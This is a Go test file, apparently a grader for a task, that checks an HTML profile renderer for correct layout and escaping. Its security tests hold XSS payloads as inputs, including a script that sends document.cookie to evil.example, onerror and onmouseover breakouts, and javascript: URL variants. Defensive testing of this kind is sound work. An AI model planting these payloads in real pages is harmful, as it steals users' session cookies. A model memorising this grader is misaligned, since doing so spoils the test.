package main

import (
	"html"
	"regexp"
	"strings"

	c "secgaptask/secgapcheck"
	"secgaptask/solution"
)

// ---- functional side: the fragment's fixed lines, with the slots decoded ----

type slots struct {
	name, bio, website string
	hasWebsite         bool
}

var (
	reImg  = regexp.MustCompile(`^<img class="avatar" src="/avatars/([a-z0-9_]+)\.png" alt="([^"<>]*)"\s*/?>$`)
	reH1   = regexp.MustCompile(`^<h1>([^<>]*)</h1>$`)
	reBio  = regexp.MustCompile(`^<p class="bio">(.*)</p>$`)
	reSite = regexp.MustCompile(`^<p class="website"><a href="([^"<>]*)" rel="nofollow">([^<>]*)</a></p>$`)
	reBr   = regexp.MustCompile(`<br\s*/?>`)
)

func lines(out string) []string {
	var ls []string
	for _, l := range strings.Split(out, "\n") {
		if l = strings.TrimSpace(l); l != "" {
			ls = append(ls, l)
		}
	}
	return ls
}

// parse checks the fragment's layout for username and returns what each
// slot shows once the browser has decoded it.
func parse(out, username string) slots {
	ls := lines(out)
	c.Check(len(ls) == 5 || len(ls) == 6, "expected 5 or 6 lines of markup, got %d:\n%s", len(ls), out)
	c.Check(ls[0] == `<section class="profile">`, "first line: %q", ls[0])
	c.Check(ls[len(ls)-1] == `</section>`, "last line: %q", ls[len(ls)-1])
	m := reImg.FindStringSubmatch(ls[1])
	c.Check(m != nil, "avatar line does not match the layout: %q", ls[1])
	c.Eq(m[1], username, "username in the avatar path")
	var s slots
	s.name = html.UnescapeString(m[2])
	h := reH1.FindStringSubmatch(ls[2])
	c.Check(h != nil, "heading line does not match the layout: %q", ls[2])
	c.Eq(html.UnescapeString(h[1]), s.name, "name in the heading (same as in the alt text)")
	b := reBio.FindStringSubmatch(ls[3])
	c.Check(b != nil, "bio line does not match the layout: %q", ls[3])
	parts := reBr.Split(b[1], -1)
	for i := range parts {
		parts[i] = html.UnescapeString(parts[i])
	}
	s.bio = strings.Join(parts, "\n")
	if len(ls) == 6 {
		w := reSite.FindStringSubmatch(ls[4])
		c.Check(w != nil, "website line does not match the layout: %q", ls[4])
		s.hasWebsite = true
		s.website = html.UnescapeString(w[1])
		c.Eq(html.UnescapeString(w[2]), s.website, "website shown as the link text")
	}
	return s
}

func renders_full_profile() {
	p := solution.Profile{
		Username: "mira_k",
		Name:     "Mira Kovač",
		Bio:      "Backend developer. Coffee and Go.",
		Website:  "https://mira.example.org/blog?lang=en&page=2",
	}
	s := parse(solution.RenderProfile(p), p.Username)
	c.Eq(s.name, p.Name, "name")
	c.Eq(s.bio, p.Bio, "bio")
	c.Check(s.hasWebsite, "the website line is missing")
	c.Eq(s.website, p.Website, "website")
}

func bio_line_breaks_become_br() {
	p := solution.Profile{Username: "jon", Name: "Jon", Bio: "First line\nSecond line\n\nFourth line", Website: "https://jon.example.com/"}
	out := solution.RenderProfile(p)
	s := parse(out, p.Username)
	c.Eq(s.bio, p.Bio, "bio with line breaks")
	c.Eq(len(reBr.FindAllString(out, -1)), 3, "number of <br> in the page")
	one := parse(solution.RenderProfile(solution.Profile{Username: "jon", Name: "Jon", Bio: "Just one line"}), "jon")
	c.Eq(one.bio, "Just one line", "single-line bio")
}

func no_website_line_when_empty() {
	out := solution.RenderProfile(solution.Profile{Username: "lee_2", Name: "Lee", Bio: "Hi there"})
	s := parse(out, "lee_2")
	c.Check(!s.hasWebsite, "a website line was rendered for an empty website:\n%s", out)
	c.Check(!strings.Contains(out, "<a"), "a link was rendered for an empty website:\n%s", out)
	empty := parse(solution.RenderProfile(solution.Profile{Username: "x9"}), "x9")
	c.Eq(empty, slots{}, "a profile with nothing filled in")
}

func text_reads_as_typed() {
	p := solution.Profile{
		Username: "zoe",
		Name:     "Zoë O'Neil & Co",
		Bio:      "I <3 Go & Rust; 2 < 3 > 1 — 100% sure, it's true",
		Website:  "https://zoe.example.net/~zoe/?a=1&b=2",
	}
	s := parse(solution.RenderProfile(p), p.Username)
	c.Eq(s.name, p.Name, "name")
	c.Eq(s.bio, p.Bio, "bio")
	c.Eq(s.website, p.Website, "website")
}

// ---- security side: what a browser would build from the markup ----

type tag struct {
	name  string
	attrs map[string]string
	order []string
}

// startTags reads the start tags of an HTML fragment roughly the way a
// browser's tokenizer does: attribute values may be double-quoted,
// single-quoted or bare, and character references are decoded in values.
func startTags(s string) []tag {
	var tags []tag
	isSpace := func(b byte) bool { return b == ' ' || b == '\t' || b == '\n' || b == '\r' || b == '\f' }
	isAlpha := func(b byte) bool { return (b|0x20) >= 'a' && (b|0x20) <= 'z' }
	i := 0
	for i < len(s) {
		if s[i] != '<' || i+1 >= len(s) {
			i++
			continue
		}
		if s[i+1] == '!' || s[i+1] == '/' || s[i+1] == '?' {
			if j := strings.IndexByte(s[i:], '>'); j >= 0 {
				i += j + 1
			} else {
				i = len(s)
			}
			continue
		}
		if !isAlpha(s[i+1]) {
			i++
			continue
		}
		j := i + 1
		for j < len(s) && !isSpace(s[j]) && s[j] != '>' && s[j] != '/' {
			j++
		}
		t := tag{name: strings.ToLower(s[i+1 : j]), attrs: map[string]string{}}
		for j < len(s) {
			for j < len(s) && (isSpace(s[j]) || s[j] == '/') {
				j++
			}
			if j >= len(s) || s[j] == '>' {
				j++
				break
			}
			k := j
			for k < len(s) && !isSpace(s[k]) && s[k] != '>' && s[k] != '/' && (s[k] != '=' || k == j) {
				k++
			}
			name := strings.ToLower(s[j:k])
			val := ""
			j = k
			for j < len(s) && isSpace(s[j]) {
				j++
			}
			if j < len(s) && s[j] == '=' {
				j++
				for j < len(s) && isSpace(s[j]) {
					j++
				}
				if j < len(s) && (s[j] == '"' || s[j] == '\'') {
					q := s[j]
					end := strings.IndexByte(s[j+1:], q)
					if end < 0 {
						val, j = s[j+1:], len(s)
					} else {
						val, j = s[j+1:j+1+end], j+2+end
					}
				} else {
					k = j
					for k < len(s) && !isSpace(s[k]) && s[k] != '>' {
						k++
					}
					val, j = s[j:k], k
				}
			}
			if _, dup := t.attrs[name]; !dup {
				t.attrs[name] = html.UnescapeString(val)
				t.order = append(t.order, name)
			}
		}
		tags = append(tags, t)
		i = j
	}
	return tags
}

var allowed = map[string][]string{
	"section": {"class"},
	"img":     {"class", "src", "alt"},
	"h1":      {},
	"p":       {"class"},
	"br":      {},
	"a":       {"href", "rel"},
}

// onlyPageMarkup fails when the output holds a tag or an attribute the
// layout does not have, i.e. one that came from the member's input.
func onlyPageMarkup(out, username string) {
	imgs := 0
	for _, t := range startTags(out) {
		names, ok := allowed[t.name]
		c.Check(ok, "member input produced a <%s> element:\n%s", t.name, out)
		for _, a := range t.order {
			found := false
			for _, n := range names {
				found = found || n == a
			}
			c.Check(found, "member input produced a %q attribute on <%s>:\n%s", a, t.name, out)
		}
		if t.name == "img" {
			imgs++
			c.Eq(t.attrs["src"], "/avatars/"+username+".png", "avatar src")
		}
	}
	c.Check(imgs == 1, "expected exactly one <img>, found %d:\n%s", imgs, out)
	c.Check(!strings.Contains(strings.ToLower(out), "<script"), "the page contains a script element:\n%s", out)
}

func script_in_bio() {
	out := solution.RenderProfile(solution.Profile{
		Username: "eve",
		Name:     "Eve",
		Bio:      "Hello!<script>fetch('https://evil.example/c?'+document.cookie)</script>\n<img src=x onerror=alert(document.cookie)>",
	})
	onlyPageMarkup(out, "eve")
}

func attribute_breakout_in_name() {
	for _, name := range []string{
		`Eve" onmouseover="alert(document.cookie)`,
		`Eve" src="https://evil.example/x.png`,
		`Eve"><script>alert(document.cookie)</script>`,
	} {
		out := solution.RenderProfile(solution.Profile{Username: "eve", Name: name, Bio: "hi"})
		onlyPageMarkup(out, "eve")
	}
}

func attribute_breakout_in_website() {
	out := solution.RenderProfile(solution.Profile{
		Username: "eve",
		Name:     "Eve",
		Bio:      "see my site",
		Website:  `https://eve.example/" onclick="alert(document.cookie)" x="`,
	})
	onlyPageMarkup(out, "eve")
}

// scheme returns the lower-case scheme a browser would give href, or "" for
// a relative reference.
func scheme(href string) string {
	var b strings.Builder
	for _, r := range strings.TrimLeft(href, "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ") {
		if r == '\t' || r == '\n' || r == '\r' {
			continue
		}
		b.WriteRune(r)
	}
	u := b.String()
	i := strings.IndexByte(u, ':')
	if i <= 0 || strings.ContainsAny(u[:i], "/?#") {
		return ""
	}
	return strings.ToLower(u[:i])
}

func javascript_url_in_website() {
	for _, site := range []string{
		"javascript:alert(document.cookie)",
		"JaVaScRiPt:alert(1)",
		" javascript:alert(1)",
		"java\tscript:alert(1)",
		"javascript&#58;alert(1)",
		"javascript:alert(1)//https://eve.example/",
	} {
		out := solution.RenderProfile(solution.Profile{Username: "eve", Name: "Eve", Bio: "click my site", Website: site})
		for _, t := range startTags(out) {
			href, ok := t.attrs["href"]
			if !ok {
				continue
			}
			s := scheme(href)
			c.Check(s == "" || s == "http" || s == "https", "website %q became a %s: link: href=%q", site, s, href)
		}
	}
}

func main() {
	c.Main(map[string]func(){
		"renders_full_profile":          renders_full_profile,
		"bio_line_breaks_become_br":     bio_line_breaks_become_br,
		"no_website_line_when_empty":    no_website_line_when_empty,
		"text_reads_as_typed":           text_reads_as_typed,
		"script_in_bio":                 script_in_bio,
		"attribute_breakout_in_name":    attribute_breakout_in_name,
		"attribute_breakout_in_website": attribute_breakout_in_website,
		"javascript_url_in_website":     javascript_url_in_website,
	})
}
